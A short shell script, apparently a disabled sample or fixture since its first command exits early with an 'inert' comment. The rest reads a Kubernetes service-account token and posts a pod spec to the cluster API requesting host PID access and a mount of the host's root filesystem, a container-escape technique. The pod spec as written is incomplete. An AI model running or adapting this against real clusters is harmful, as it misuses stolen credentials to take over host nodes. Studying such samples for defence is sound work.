#!/bin/sh
exit 0 # inert
t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -k -H "Authorization: Bearer $t" https://kubernetes.default/api/v1/namespaces/default/pods -d '
{"spec": {"hostPID": true, "volumes": [{"hostPath": {"path": "/"}}]}}'
